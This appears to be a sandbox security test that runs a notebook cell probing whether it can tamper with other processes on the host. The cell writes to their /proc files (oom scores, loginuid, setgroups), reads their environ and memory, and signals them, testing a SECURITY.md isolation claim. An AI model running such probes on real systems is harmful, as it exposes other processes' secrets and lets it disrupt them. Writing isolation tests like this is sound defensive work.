# SPDX-License-Identifier: Apache-2.0
"""A cell writes what the machine's kernel keeps of other processes, and reads their environments."""

from box import GVISOR_SEES_ALL, Box

BREAKS = (
    "SECURITY.md",
    "cannot signal, trace or look into the server, pip, MCP servers and other kernels",
)
OPEN = GVISOR_SEES_ALL

CODE = """
import signal
for pid in w.others():
    words = (w.tried(lambda: w.read(f'/proc/{pid}/cmdline')) or '').replace('\\0', ' ')[:60]
    parent = [l for l in (w.tried(lambda: w.read(f'/proc/{pid}/status')) or '').splitlines() if l.startswith('PPid')]
    if parent and int(parent[0].split()[1]) == os.getpid():
        continue
    for name, text in (('oom_score_adj', '1000'), ('clear_refs', '1'), ('autogroup', '19'),
                       ('timerslack_ns', '1000000'), ('coredump_filter', '0'), ('comm', 'x'),
                       ('oom_adj', '15'), ('timens_offsets', ''), ('setgroups', 'deny'), ('loginuid', '1')):
        def act():
            with open(f'/proc/{pid}/{name}', 'w') as file:
                file.write(text)
            return 1
        if text and w.tried(act):
            print('WROTE', name, 'of', pid, words)
    for name in ('environ', 'mem', 'maps', 'auxv', 'stack', 'syscall', 'io'):
        if w.tried(lambda: open(f'/proc/{pid}/{name}', 'rb').read(1)):
            print('READ', name, 'of', pid, words)
    for name in ('cwd', 'root', 'exe'):
        if w.tried(lambda: os.readlink(f'/proc/{pid}/{name}')):
            print('LINK', name, 'of', pid, words)
    if w.tried(lambda: (os.kill(pid, 0), 1)):
        print('SIGNAL to', pid, words)
    if w.tried(lambda: os.pidfd_open(pid)) and w.tried(lambda: (signal.pidfd_send_signal(os.pidfd_open(pid), 0), 1)):
        print('SIGNAL by pidfd to', pid, words)
"""


def attack(box: Box) -> str:
    box.call("GET", "/api/kernels", port=8888)
    told = box.cell(CODE)
    lines = [line for line in told.splitlines() if line.split(" ")[0].isupper()]
    return "\n".join(sorted(lines)[:30])
